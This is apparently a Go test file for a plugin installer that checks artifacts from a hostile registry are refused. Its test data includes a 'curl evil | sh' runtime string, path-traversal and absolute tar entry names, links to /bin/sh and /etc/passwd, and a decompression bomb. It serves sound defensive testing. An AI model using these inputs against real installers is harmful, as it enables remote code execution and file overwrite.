package distribution

import (
	"archive/tar"
	"bytes"
	"context"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"os/signal"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/klauspost/compress/zstd"

	"toolhost.dev/sdk/tool"

	"toolhost.dev/host/internal/artifact"
	"toolhost.dev/host/internal/trust"
)

// entry is a file of a layer.
type entry struct {
	tar.Header
	text string
}

// layerOf returns a layer with the given entries. The entries can be of kinds that no layer of a plugin may contain.
func layerOf(t *testing.T, entries ...entry) []byte {
	t.Helper()
	var b bytes.Buffer
	z, err := zstd.NewWriter(&b)
	if err != nil {
		t.Fatal(err)
	}
	w := tar.NewWriter(z)
	for _, e := range entries {
		if e.Typeflag == 0 {
			e.Typeflag = tar.TypeReg
		}
		e.Mode, e.Size = 0o755, int64(len(e.text))
		if err := w.WriteHeader(&e.Header); err != nil {
			t.Fatal(err)
		}
		if _, err := io.WriteString(w, e.text); err != nil {
			t.Fatal(err)
		}
	}
	_ = w.Close() // ignore the error: the entry of a device has no content
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func named(name, text string) entry { return entry{tar.Header{Name: name}, text} }

// bomb returns a small layer that announces a huge file of zeros.
func bomb(t *testing.T, announced int64, written int) []byte {
	t.Helper()
	var b bytes.Buffer
	z, err := zstd.NewWriter(&b)
	if err != nil {
		t.Fatal(err)
	}
	w := tar.NewWriter(z)
	if err := w.WriteHeader(&tar.Header{Name: "weather", Mode: 0o755, Size: announced}); err != nil {
		t.Fatal(err)
	}
	zeros := make([]byte, 1<<20)
	for range written {
		if _, err := w.Write(zeros); err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// TestHostileArtifacts installs artifacts that a hostile publisher or registry made. Each artifact must be refused with
// the expected reason, and neither the store nor the lock file may change.
func TestHostileArtifacts(t *testing.T) {
	text := string(program("weather", "1.0.0", "now"))
	good := layerOf(t, named("weather", text))
	described, err := describeBytes([]byte(text))
	if err != nil {
		t.Fatal(err)
	}
	content, program := hashes(t, text)
	base := func(s *server) forgery {
		return forgery{
			layer: good, config: artifact.Config{Name: "weather", Version: "1.0.0", Runtime: "none", Description: described},
			source: s.host + "/acme/weather", version: "1.0.0", content: content, entry: program,
		}
	}
	for name, c := range map[string]struct {
		want  string
		forge func(s *server, f *forgery)
	}{
		"good":          {"", func(*server, *forgery) {}},
		"old as new":    {`serves the version "0.9.0"`, func(_ *server, f *forgery) { f.version = "0.9.0" }},
		"other plugin":  {"/acme/mail", func(s *server, f *forgery) { f.source = s.host + "/acme/mail" }},
		"mirror's name": {"serves the plugin", func(_ *server, f *forgery) { f.source = "" }},
		"large index":   {"larger than 1048576 bytes", func(_ *server, f *forgery) { f.padding = 1 << 20 }},
		"many platforms": {"has 65 platforms", func(_ *server, f *forgery) {
			f.index = func(i *artifact.Index) {
				for len(i.Manifests) < 65 {
					i.Manifests = append(i.Manifests, i.Manifests[0])
				}
			}
		}},
		"platform twice": {"without a platform of its own", func(_ *server, f *forgery) {
			f.index = func(i *artifact.Index) { i.Manifests = append(i.Manifests, i.Manifests[0]) }
		}},
		"no platform": {"without a platform of its own", func(_ *server, f *forgery) { f.index = func(i *artifact.Index) { i.Manifests[0].Platform = nil } }},
		"other platform": {"only for plan9/mips", func(_ *server, f *forgery) {
			f.index = func(i *artifact.Index) {
				i.Manifests[0].Platform = &artifact.Platform{OS: "plan9", Architecture: "mips"}
			}
		}},
		"no hashes":       {"lacks the hashes", func(_ *server, f *forgery) { f.content = "h1:../../../../etc" }},
		"other content":   {"was announced", func(_ *server, f *forgery) { f.content, _ = hashes(t, "x") }},
		"other program":   {"its program has the digest", func(_ *server, f *forgery) { _, f.entry = hashes(t, "x") }},
		"huge layer":      {"at most 536870912", func(_ *server, f *forgery) { f.layerSize = 600 << 20 }},
		"longer layer":    {"stopped at", func(_ *server, f *forgery) { f.layerSize = int64(len(good)) + 1 }},
		"shorter layer":   {"stopped at", func(_ *server, f *forgery) { f.layerSize = int64(len(good)) - 1 }},
		"other name":      {`describes the plugin "mail"`, func(_ *server, f *forgery) { f.config.Name = "mail" }},
		"other version":   {`in version "1.0.1"`, func(_ *server, f *forgery) { f.config.Version = "1.0.1" }},
		"strange runtime": {"is not a runtime", func(_ *server, f *forgery) { f.config.Runtime = "curl evil | sh" }},
		"other tools": {"differs from the published one", func(_ *server, f *forgery) {
			f.config.Description = &tool.Description{Name: "weather", Version: "1.0.0"}
		}},
		"no description": {"lacks the description", func(_ *server, f *forgery) { f.config.Description = nil }},
		"no zstd":        {"cannot be unpacked", func(_ *server, f *forgery) { f.layer = []byte("PK\x03\x04 a zip file") }},
		"dots":           {`"../weather" is refused`, func(_ *server, f *forgery) { f.layer = layerOf(t, named("../weather", text)) }},
		"dots inside":    {"is refused", func(_ *server, f *forgery) { f.layer = layerOf(t, named("a/../../weather", text)) }},
		"absolute":       {"is refused", func(_ *server, f *forgery) { f.layer = layerOf(t, named("/etc/cron.d/x", text)) }},
		"backslash":      {"is refused", func(_ *server, f *forgery) { f.layer = layerOf(t, named(`..\x`, text)) }},
		"link": {"only regular files", func(_ *server, f *forgery) {
			f.layer = layerOf(t, entry{tar.Header{Name: "weather", Typeflag: tar.TypeSymlink, Linkname: "/bin/sh"}, ""})
		}},
		"hard link": {"only regular files", func(_ *server, f *forgery) {
			f.layer = layerOf(t, entry{tar.Header{Name: "weather", Typeflag: tar.TypeLink, Linkname: "/etc/passwd"}, ""})
		}},
		"device": {"only regular files", func(_ *server, f *forgery) {
			f.layer = layerOf(t, entry{tar.Header{Name: "weather", Typeflag: tar.TypeBlock, Devmajor: 8}, ""})
		}},
		"pipe": {"only regular files", func(_ *server, f *forgery) {
			f.layer = layerOf(t, entry{tar.Header{Name: "weather", Typeflag: tar.TypeFifo}, ""})
		}},
		"case":            {"are alike", func(_ *server, f *forgery) { f.layer = layerOf(t, named("weather", text), named("Weather", "x")) }},
		"case of parents": {"are alike", func(_ *server, f *forgery) { f.layer = layerOf(t, named("lib/a", "x"), named("LIB/b", "x")) }},
		"same name":       {"are alike", func(_ *server, f *forgery) { f.layer = layerOf(t, named("weather", text), named("weather", "x")) }},
		"file as parent":  {"are alike", func(_ *server, f *forgery) { f.layer = layerOf(t, named("a/b", "x"), named("a", "x")) }},
		"no program":      {"has no program weather", func(_ *server, f *forgery) { f.layer = layerOf(t, named("readme", text)) }},
		"bomb":            {"more than 512 MiB", func(_ *server, f *forgery) { f.layer = bomb(t, 600<<20, 1) }},
		"cut archive":     {"cannot be unpacked", func(_ *server, f *forgery) { f.layer = bomb(t, 2<<20, 1) }},
	} {
		t.Run(name, func(t *testing.T) {
			s, m := newServer(t), newMachine(t)
			key, _ := newKey(t)
			f := base(s)
			c.forge(s, &f)
			m.forge(key, s.host+"/acme/weather:1.0.0", f)
			m.want("weather", s.host+"/acme/weather", "")
			_, err := m.install(InstallOptions{})
			if c.want == "" {
				if err != nil {
					t.Fatal(err)
				}
				m.unchanged(1)
				return
			}
			if err == nil || !strings.Contains(err.Error(), c.want) {
				t.Fatalf("%v, wanted %q", err, c.want)
			}
			m.unchanged(0)
		})
	}
}

func describeBytes(text []byte) (*tool.Description, error) {
	dir, err := os.MkdirTemp("", "describe")
	if err != nil {
		return nil, err
	}
	defer os.RemoveAll(dir)
	path := filepath.Join(dir, "x")
	if err := os.WriteFile(path, text, 0o600); err != nil {
		return nil, err
	}
	return describeText(context.Background(), path)
}

// hashes returns the hash of a plugin with one file, and the digest of its program.
func hashes(t *testing.T, text string) (content, program string) {
	t.Helper()
	path := filepath.Join(t.TempDir(), "weather")
	if err := os.WriteFile(path, []byte(text), 0o755); err != nil {
		t.Fatal(err)
	}
	p, err := artifact.Pack(io.Discard, path, "weather")
	if err != nil {
		t.Fatal(err)
	}
	return p.Content, p.Entry
}

// TestLyingRegistry checks installations from a registry that sends changed content or errors. They must fail without
// changing anything, and succeed when the registry works again.
func TestLyingRegistry(t *testing.T) {
	key, _ := newKey(t)
	flip := func(part string, least int) func(w http.ResponseWriter, r *http.Request, real http.Handler) bool {
		return func(w http.ResponseWriter, r *http.Request, real http.Handler) bool {
			if r.Method != http.MethodGet || !strings.Contains(r.URL.Path, part) {
				return false
			}
			rec := httptest.NewRecorder()
			real.ServeHTTP(rec, r)
			b := rec.Body.Bytes()
			if len(b) >= least {
				b[len(b)/2] ^= 1
			}
			for k, v := range rec.Header() {
				w.Header()[k] = v
			}
			w.WriteHeader(rec.Code)
			_, _ = w.Write(b)
			return true
		}
	}
	status := func(code int) func(w http.ResponseWriter, r *http.Request, real http.Handler) bool {
		return func(w http.ResponseWriter, r *http.Request, _ http.Handler) bool {
			w.Header().Set("Retry-After", "0")
			w.WriteHeader(code)
			return true
		}
	}
	for name, c := range map[string]struct {
		want string
		lie  func(w http.ResponseWriter, r *http.Request, real http.Handler) bool
	}{
		"blobs":     {"the blob has the digest", flip("/blobs/", 0)},
		"layer":     {"the download has the digest", flip("/blobs/", 40_000)},
		"manifests": {"digest", flip("/manifests/sha256:", 0)},
		"denied":    {"docker login", status(http.StatusForbidden)},
		"gone":      {"not found", status(http.StatusNotFound)},
	} {
		t.Run(name, func(t *testing.T) {
			s, m := newServer(t), newMachine(t)
			m.publish(key, s.host+"/acme/weather:1.0.0", random("1.0.0", 50_000))
			s.lies(c.lie)
			m.want("weather", s.host+"/acme/weather", "")
			if _, err := m.install(InstallOptions{}); err == nil || !strings.Contains(err.Error(), c.want) {
				t.Errorf("%v, wanted %q", err, c.want)
			}
			m.unchanged(0)
			s.lies(nil)
			if _, err := m.install(InstallOptions{}); err != nil {
				t.Errorf("after the registry works again: %v", err)
			}
			m.unchanged(1)
		})
	}
}

// TestBusyRegistry checks that a request is repeated after an answer such as 503.
func TestBusyRegistry(t *testing.T) {
	s, m := newServer(t), newMachine(t)
	key, _ := newKey(t)
	m.publish(key, s.host+"/acme/weather:1.0.0", program("weather", "1.0.0", "now"))
	first := true
	s.lies(func(w http.ResponseWriter, _ *http.Request, _ http.Handler) bool {
		if first {
			first = false
			w.WriteHeader(http.StatusServiceUnavailable)
			return true
		}
		return false
	})
	m.want("weather", s.host+"/acme/weather", "")
	if _, err := m.install(InstallOptions{}); err != nil {
		t.Error(err)
	}
}

// random returns a plugin that begins with its description. The remaining bytes cannot be compressed.
func random(version string, n int) []byte {
	b := program("weather", version, "now")
	x := uint64(88172645463325252) + uint64(len(version))
	for range n {
		x ^= x << 13
		x ^= x >> 7
		x ^= x << 17
		b = append(b, byte(x))
	}
	return b
}

// TestCutDownloads cuts the connection during downloads. The next request must ask only for the missing bytes with the
// header Range, so that hardly any byte is sent twice.
func TestCutDownloads(t *testing.T) {
	for name, refuses := range map[string]bool{"ranges": false, "no ranges": true} {
		t.Run(name, func(t *testing.T) { cutDownloads(t, refuses) })
	}
}

// cutDownloads installs a plugin from a registry that cuts downloads. If refuses is true, the registry ignores ranges
// and sends the whole blob. The bytes that were already downloaded must then be skipped.
func cutDownloads(t *testing.T, refuses bool) {
	s, m := newServer(t), newMachine(t)
	key, _ := newKey(t)
	m.publish(key, s.host+"/acme/weather:1.0.0", random("1.0.0", 50_000))
	m.want("weather", s.host+"/acme/weather", "")
	var mu sync.Mutex
	sent, size := 0, 0
	cutAfter := 7001
	s.lies(func(w http.ResponseWriter, r *http.Request, real http.Handler) bool {
		if r.Method != http.MethodGet || !strings.Contains(r.URL.Path, "/blobs/") {
			return false
		}
		rec := httptest.NewRecorder()
		plain := r.Clone(r.Context())
		plain.Header.Del("Range")
		real.ServeHTTP(rec, plain)
		b := rec.Body.Bytes()
		if len(b) < 40_000 { // this blob is not the layer
			return false
		}
		from := 0
		if refuses && r.Header.Get("Range") != "" {
			w.WriteHeader(http.StatusRequestedRangeNotSatisfiable)
			return true
		}
		w.Header().Set("Accept-Ranges", "bytes")
		if text, ok := strings.CutPrefix(r.Header.Get("Range"), "bytes="); ok {
			first, _, _ := strings.Cut(text, "-")
			from, _ = strconv.Atoi(first)
			w.Header().Set("Content-Range", "bytes "+first+"-"+strconv.Itoa(len(b)-1)+"/"+strconv.Itoa(len(b)))
		}
		w.Header().Set("Content-Length", strconv.Itoa(len(b)-from))
		if from > 0 {
			w.WriteHeader(http.StatusPartialContent)
		}
		end := from + cutAfter
		mu.Lock()
		if refuses && sent > 0 {
			end = len(b) // do not cut later downloads
		}
		mu.Unlock()
		part := b[from:min(len(b), end)]
		n, _ := w.Write(part)
		mu.Lock()
		sent, size = sent+n, len(b)
		mu.Unlock()
		if end < len(b) {
			_ = http.NewResponseController(w).Flush()
			panic(http.ErrAbortHandler)
		}
		return true
	})
	if _, err := m.install(InstallOptions{}); err != nil {
		t.Fatal(err)
	}
	m.unchanged(1)
	mu.Lock()
	defer mu.Unlock()
	if !refuses && sent > size*105/100 {
		t.Errorf("%d bytes were sent for %d", sent, size)
	}
	t.Logf("%d bytes were sent for %d", sent, size)
}

// TestConcurrentInstalls installs the same plugins several times concurrently, with the same lock file and with two
// lock files.
func TestConcurrentInstalls(t *testing.T) {
	s, m := newServer(t), newMachine(t)
	key, _ := newKey(t)
	for _, name := range []string{"a", "b", "c"} {
		m.publish(key, s.host+"/acme/"+name+":1.0.0", program(name, "1.0.0", "t-"+name))
		m.want(name, s.host+"/acme/"+name, "")
	}
	second := &machine{&Manager{Lock: filepath.Join(m.dir, "second.lock.json"), Store: m.Store, Describe: describeText, Wanted: m.Wanted}, t, m.dir}
	var all sync.WaitGroup
	for _, who := range []*machine{m, second, m, second, m} {
		all.Go(func() {
			if _, err := who.install(InstallOptions{}); err != nil {
				t.Error(err)
			}
		})
	}
	all.Wait()
	m.unchanged(3)
	second.unchanged(3)
	// Concurrent installations of different plugins into one lock file must not lose an entry.
	third := newMachine(t)
	third.Wanted = m.Wanted
	for _, w := range m.Wanted {
		all.Go(func() {
			if _, err := third.install(InstallOptions{Names: []string{w.Name}}); err != nil {
				t.Error(err)
			}
		})
	}
	all.Wait()
	third.unchanged(3)
}

// TestMain runs the tests. In the processes that TestKilledInstalls and TestFullDisk start, it installs a plugin
// instead.
func TestMain(m *testing.M) {
	if os.Getenv("INSTALL_SOURCE") != "" {
		os.Exit(installFromEnvironment())
	}
	os.Exit(m.Run())
}

// installFromEnvironment installs and upgrades the plugin that environment variables describe. It returns the exit
// status.
func installFromEnvironment() int {
	if limit := os.Getenv("INSTALL_LIMIT"); limit != "" {
		n, _ := strconv.ParseUint(limit, 10, 64)
		signal.Ignore(syscall.SIGXFSZ) // a write then returns an error, as on a full disk
		if err := syscall.Setrlimit(syscall.RLIMIT_FSIZE, &syscall.Rlimit{Cur: n, Max: n}); err != nil {
			return 3
		}
	}
	m, err := environmentManager()
	if err == nil {
		_, err = m.Install(context.Background(), InstallOptions{})
	}
	if err == nil {
		_, err = m.Upgrade(context.Background(), nil, Consent{})
	}
	if err != nil {
		_, _ = os.Stderr.WriteString(err.Error())
		return 1
	}
	return 0
}

// helper returns a command that installs a plugin in a separate process.
func (m *machine) helper(src string, env ...string) *exec.Cmd {
	c := exec.Command(os.Args[0])
	c.Env = append(os.Environ(), append(env, "INSTALL_SOURCE="+src, "INSTALL_LOCK="+m.Lock, "XDG_DATA_HOME="+filepath.Join(m.dir, "data"))...)
	return c
}

// TestKilledInstalls kills installations and upgrades at many points. After each kill, the lock file must be readable,
// and the store must contain only complete versions. A later command must complete the work.
func TestKilledInstalls(t *testing.T) {
	s, m := newServer(t), newMachine(t)
	key, _ := newKey(t)
	src := s.host + "/acme/weather"
	m.publish(key, src+":1.0.0", random("1.0.0", 300_000), manyFiles)
	m.want("weather", src, "")
	other := newMachine(t)
	start := time.Now()
	if out, err := other.helper(src).CombinedOutput(); err != nil {
		t.Fatalf("%v %s", err, out)
	}
	step := time.Since(start) / 22 // so that the last kills come after the end of the work
	for i := range 50 {
		if i == 25 {
			if _, err := m.install(InstallOptions{}); err != nil {
				t.Fatal(err)
			}
			m.publish(key, src+":1.1.0", random("1.1.0", 300_000), manyFiles)
		}
		c := m.helper(src)
		if err := c.Start(); err != nil {
			t.Fatal(err)
		}
		time.Sleep(time.Duration(i%25) * step)
		_ = c.Process.Kill()
		_ = c.Wait()
		lock := m.lock() // fails if the lock file is not readable
		if pin, ok := lock.Plugins["weather"]; ok {
			content := pin.Platforms[trust.ThisPlatform()].Content
			if is, _, err := artifact.HashDir(m.Store.Dir(content), "weather"); err != nil || is != content {
				t.Fatalf("after kill %d, the locked version is not whole: %s %v", i, is, err)
			}
		} else if i >= 25 {
			t.Fatalf("kill %d removed the plugin from the lock file", i)
		}
		m.whole()
	}
	if _, err := m.install(InstallOptions{}); err != nil {
		t.Fatal(err)
	}
	if _, err := m.Upgrade(t.Context(), nil, Consent{}); err != nil || m.lock().Plugins["weather"].Version != "1.1.0" {
		t.Fatal(err)
	}
	if left, _ := filepath.Glob(filepath.Join(m.Store.Partial(), "*")); len(left) > 0 {
		t.Errorf("left behind: %v", left)
	}
}

// environmentManager returns the manager that environment variables describe.
func environmentManager() (*Manager, error) {
	name, err := artifact.ParseName(os.Getenv("INSTALL_SOURCE"))
	if err != nil {
		return nil, err
	}
	s, err := artifact.OpenStore()
	return &Manager{Lock: os.Getenv("INSTALL_LOCK"), Store: s, Describe: describeText, Wanted: []Wanted{{Name: name.Base(), Source: name}}}, err
}
